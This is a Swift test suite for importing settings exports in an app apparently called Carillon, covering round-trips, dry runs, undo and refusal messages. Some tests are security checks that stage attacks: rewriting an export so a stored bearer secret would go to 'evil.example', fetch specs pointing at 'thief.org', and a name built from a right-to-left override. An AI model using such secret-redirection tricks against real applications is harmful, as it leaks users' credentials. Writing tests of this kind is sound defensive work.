import CarillonFeatures
import Testing

/// Bringing settings and hours back from an export. (T29)
@Suite struct ImportTests {
  private let start = at("2026-11-21T06:00:00Z")

  private func device() throws -> Device { try Device(at: start) }

  /// An export of what `device` has configured, as it is sent on the bus.
  private func export(of device: Device) -> String { head(device.done(.configuration)) }

  private func head(_ configuration: String, version: Int = 1) -> String {
    #"{"head":{"format":"carillon-export","formatVersion":\#(version),"version":"9","#
      + #""configuration":\#(configuration)}}"#
  }

  private func report(_ device: Device, _ document: String) throws -> JSONValue {
    try #require(JSONValue(parsing: device.done(.import(document))))
  }

  private func texts(_ report: JSONValue, _ list: String) -> [String] {
    guard case .object(let members) = report, case .array(let lines)? = members[list] else {
      return []
    }
    return lines.compactMap {
      guard case .object(let line) = $0, case .text(let text)? = line["text"] else { return nil }
      return text
    }
  }

  private let rich =
    #"{"timezone":"Asia/Tokyo","ttlSeconds":172800,"quietHours":{"from":"22:00","to":"07:00"},"#
    + #""autostart":true,"depth":1,"temperatureUnit":"F","#
    + #""channels":{"general":{"enabled":false,"sound":null}},"#
    + #""slots":[{"hour":7,"minute":15,"label":"Early","weekdays":[1,2]},{"hour":8,"minute":0,"label":"Dawn"}]}"#

  @Test("T29: an export brings back the same configuration, and says what changed")
  func roundTrip() throws {
    let device = try device()
    device.set(rich)
    let configured = device.done(.configuration)
    let file = export(of: device)

    let other = try self.device()
    let changes = texts(try report(other, file), "changes")
    #expect(other.done(.configuration) == configured)
    #expect(other.autostarts == [true])
    #expect(
      changes == [
        "07:15 Early: added", "08:00 Morning: changed (name)", "12:00 Noon: removed",
        "18:00 Evening: removed", "Time zone: as on this computer → “Asia/Tokyo”",
        "Oldest content to show: 24 hours → 2 days", "Also plan tomorrow: off → on",
        "Quiet hours: off → 22:00–07:00", "Start with your session: off → on",
        "Other messages: on → off, without sound", "Temperatures: °C, as in your region → °F",
      ])
    // Once more, it changes nothing.
    #expect(texts(try report(other, file), "changes").isEmpty)
  }

  @Test("T29: what the file names is replaced, also where it has less; the rest stays")
  func overDefaults() throws {
    let device = try device()
    device.set(#"{"channels":{"general":{"enabled":false}},"retentionDays":30}"#)
    _ = try report(device, head(#"{"channels":{},"mode":"offline-first"}"#))
    let configuration = device.done(.configuration)
    #expect(configuration.contains(#""channels":{}"#))
    #expect(configuration.contains(#""retentionDays":30"#))
    #expect(configuration.contains(#""mode":"offline-first""#))
  }

  @Test("T29: a dry run says the same and changes nothing")
  func dryRun() throws {
    let device = try device()
    let before = device.done(.configuration)
    let file = head(rich)
    let dry = try report(device, #"{"dryRun":true,"# + file.dropFirst())
    #expect(device.done(.configuration) == before)
    #expect(device.autostarts.isEmpty)
    #expect(device.refusal(.import(#"{"undo":true}"#))?.kind == .refused)
    let done = try report(device, file)
    #expect(texts(dry, "changes") == texts(done, "changes") && !texts(dry, "changes").isEmpty)
    guard case .object(let members) = dry else { return }
    #expect(members["dryRun"] == .bool(true))
  }

  @Test("T29: one step brings back what was before the last import, once and for a day")
  func undo() throws {
    let device = try device()
    device.set(#"{"mode":"online-first"}"#)
    let before = device.done(.configuration)
    _ = try report(device, head(rich))
    #expect(device.done(.configuration) != before)
    // An import that changes nothing does not take the place of one that did.
    _ = try report(device, head(rich))
    #expect(!texts(try report(device, #"{"undo":true}"#), "changes").isEmpty)
    #expect(device.done(.configuration) == before)
    #expect(device.refusal(.import(#"{"undo":true}"#))?.message == "There is no import to undo.")

    _ = try report(device, head(rich))
    device.run(for: .hours(23))
    _ = try report(device, #"{"undo":true}"#)
    #expect(device.done(.configuration) == before)

    _ = try report(device, head(rich))
    device.run(for: .days(1) + .hours(1))
    #expect(device.refusal(.import(#"{"undo":true}"#))?.kind == .refused)
  }

  @Test("T29: an undo survives a restart")
  func undoAfterRestart() throws {
    let device = try device()
    let before = device.done(.configuration)
    _ = try report(device, head(rich))
    device.off(until: device.now + .minutes(5))
    _ = try report(device, #"{"undo":true}"#)
    #expect(device.done(.configuration) == before)
  }

  private let secret =
    #"{"callbackProfile":{"fetchContent":{"method":"GET","url":"https://example.org/a.json","#
    + #""headers":{"Accept":"text/plain","Authorization":{"secret":"Bearer x"}}}}}"#

  @Test("T27, T29: an undo finds the secrets of what was before; after a day they are forgotten")
  func secretsForUndo() throws {
    let device = try device()
    device.set(secret)
    #expect(device.secrets.count == 1)
    let before = device.done(.configuration)
    _ = try report(device, head(#"{"callbackProfile":null}"#))
    #expect(device.secrets.count == 1)
    device.off(until: device.now + .minutes(5))
    #expect(device.secrets.count == 1)
    _ = try report(device, #"{"undo":true}"#)
    #expect(device.done(.configuration) == before)
    #expect(device.secrets.count == 1)

    _ = try report(device, head(#"{"callbackProfile":null}"#))
    device.run(for: .days(1) + .hours(9))
    #expect(device.secrets.isEmpty)
  }

  @Test("T27, T29: secrets of another computer are dropped and named; the address comes")
  func foreignSecrets() throws {
    let device = try device()
    device.set(secret)
    let file = export(of: device)
    #expect(!file.contains("Bearer"))
    // On the same computer the secret is still there.
    #expect(texts(try report(device, file), "leftOut").isEmpty)
    #expect(device.secrets.count == 1)

    let other = try self.device()
    let told = texts(try report(other, file), "leftOut")
    #expect(
      told == [
        "callbackProfile.fetchContent.headers.Authorization: secrets are not in an export. "
          + "Enter it again."
      ])
    let configuration = other.done(.configuration)
    #expect(configuration.contains("https://example.org/a.json"))
    #expect(configuration.contains("text/plain") && !configuration.contains("Authorization"))
    // Not even a secret that somebody has written into the file is stored.
    _ = try report(other, head(secret))
    #expect(other.secrets.isEmpty && !other.done(.configuration).contains("Authorization"))
  }

  @Test("T27, T29: a file cannot send a known secret to another origin")
  func stolenSecret() throws {
    let device = try device()
    device.set(secret)
    let stolen = export(of: device).replacing("https://example.org/", with: "https://evil.example/")
    #expect(texts(try report(device, stolen), "leftOut").count == 1)
    #expect(!device.done(.configuration).contains("secretReference"))
  }

  @Test("T27, T29: what is kept for an undo goes nowhere else meanwhile")
  func formerSecretElsewhere() throws {
    let device = try device()
    device.set(secret)
    let reference = try #require(device.secrets.keys.first).id
    let before = device.done(.configuration)
    _ = try report(device, head(#"{"callbackProfile":null}"#))
    let spec =
      #"{"method":"GET","url":"https://thief.org/","headers":{"X":{"secretReference":"#
      + #""\#(reference)"}}}"#
    let fetches = device.fetches.count
    for question in [
      Question.tryFetch(fetchSpec: spec),
      .set(mergePatch: #"{"callbackProfile":{"fetchContent":\#(spec)}}"#),
      .set(mergePatch: #"{"slots":[{"hour":8,"minute":0,"fetchContent":\#(spec)}]}"#),
    ] {
      #expect(device.refusal(question)?.message.hasSuffix(SecretOrigins.reason) == true)
    }
    #expect(device.fetches.count == fetches)
    _ = try report(device, #"{"undo":true}"#)
    #expect(device.done(.configuration) == before)
  }

  @Test("T29: hours of a refused change, or of a dry run, are no part of the next import")
  func staged() throws {
    let device = try device()
    let hours = #""slots":[{"hour":9,"minute":0}]"#
    _ = device.refusal(.set(mergePatch: #"{\#(hours),"ttlSeconds":-1}"#))
    #expect(texts(try report(device, head(#"{"mode":"auto"}"#)), "changes").isEmpty)
    _ = try report(device, #"{"dryRun":true,"# + head("{\(hours)}").dropFirst())
    #expect(
      texts(try report(device, head(#"{"retentionDays":30}"#)), "changes") == [
        "Keep history: 14 days → 30 days"
      ])
  }

  @Test("T29: what this version does not know is named and left out")
  func unknown() throws {
    let device = try device()
    let told = try report(
      device,
      head(
        #"{"mode":"offline-first","future":1,"channels":{"new":{"enabled":false}},"#
          + #""slots":[{"hour":9,"minute":0,"mood":"calm"}],"iosCategoryIdentifier":"other"}"#))
    #expect(
      texts(told, "leftOut") == [
        "future: this version does not know it.",
        "channels.new: this version does not know it.",
        "slots[0].mood: this version does not know it.",
      ])
    #expect(device.done(.configuration).contains(#""mode":"offline-first""#))
    #expect(device.state().nextOccurrences.map(\.slotId) == ["0900"])
    device.off(until: device.now + .minutes(1))
    #expect(device.state().lastErrors.isEmpty)
  }

  @Test("T29: what names a member of a file is as short as a name, and laid out by anyone")
  func names() throws {
    let device = try device()
    let name = "\u{202E}a" + String(repeating: "\u{301}", count: 10_000)
    let told = try report(
      device,
      head(
        #"{"mode":"offline-first","\#(name)":1,"callbackProfile":{"heartbeat":{"method":"POST","#
          + #""url":"https://example.org/","headers":{"\#(name)":{"secret":"S"}}}}}"#))
    let texts = texts(told, "leftOut")
    #expect(texts.count == 2)
    #expect(texts.allSatisfy { $0.unicodeScalars.count < 200 && !$0.contains("\u{202E}") })
    #expect(told.serialized.utf8.count < 2000)
  }

  @Test(
    "T29: what is no export, or has a bad value, is refused by its field and changes nothing",
    arguments: [
      ("{", "document: not a JSON document"), ("[]", "document: must be an object"),
      ("{}", "head: is required"), (#"{"head":{}}"#, "head.format: is required"),
      (#"{"head":{"format":"other"}}"#, "head.format: must be carillon-export"),
      (#"{"head":{"format":"carillon-export"}}"#, "head.formatVersion: is required"),
      (
        #"{"head":{"format":"carillon-export","formatVersion":2,"configuration":{}}}"#,
        "head.formatVersion: must be 1; another version of Carillon wrote this"
      ),
      (
        #"{"head":{"format":"carillon-export","formatVersion":1}}"#,
        "head.configuration: is required"
      ),
      (
        #"{"head":{"format":"carillon-export","formatVersion":1,"#
          + #""configuration":{"mode":"offline-first","retentionDays":0}}}"#,
        "retentionDays: must be from 1 to 365"
      ),
      (
        #"{"head":{"format":"carillon-export","formatVersion":1,"#
          + #""configuration":{"mode":"offline-first","slots":[{"hour":25,"minute":0}]}}}"#,
        "slots[0].hour: must be from 0 to 23"
      ),
      (#"{"undo":true,"head":{}}"#, "head: stands beside undo"),
      (#"{"dryRun":1,"head":{}}"#, "dryRun: must be true or false"),
    ])
  func refused(document: String, message: String) throws {
    let device = try device()
    let before = device.done(.configuration)
    #expect(device.refusal(.import(document))?.message == message)
    #expect(device.done(.configuration) == before)
  }

  @Test("T29: an import spends nothing and rings nothing late")
  func occurrences() throws {
    let device = try Device(at: at("2026-11-21T09:30:00+01:00"))
    _ = try report(
      device, head(#"{"slots":[{"hour":9,"minute":0},{"hour":12,"minute":0}]}"#))
    #expect(device.calls.isEmpty)
    #expect(
      device.state().nextOccurrences.map { "\($0.slotId)@\($0.date.suffix(2))" } == [
        "1200@21", "0900@22",
      ])
  }

  @Test("T29: of a long export only the head is sent, and a damaged one is not")
  func file() throws {
    let rows = String(
      repeating: #"{"id":1,"text":"é\"","list":[[],{},1.5,null,true]},"#, count: 200)
    let export =
      #"{"head":{"format":"carillon-export","formatVersion":1,"state":{"x":[]},"#
      + #""configuration":{"mode":"auto"}},"notif_contents":["# + rows + "{}],\n\"notes\":[]}\n"
    let sent = try Document.importing(export, dryRun: true)
    #expect(
      sent.value.serialized
        == #"{"dryRun":true,"head":{"configuration":{"mode":"auto"},"format":"carillon-export","#
        + #""formatVersion":1}}"#)
    for damaged in [String(export.dropLast(40)), "", "nothing", export + "}"] {
      #expect(throws: Refusal.self) { try Document.importing(damaged) }
    }
    #expect(throws: Refusal.self) { try Document.importing("[1]") }
    let long = export.replacing("auto", with: String(repeating: "x", count: 1 << 20))
    #expect(throws: Refusal.self) { try Document.importing(long) }
  }
}
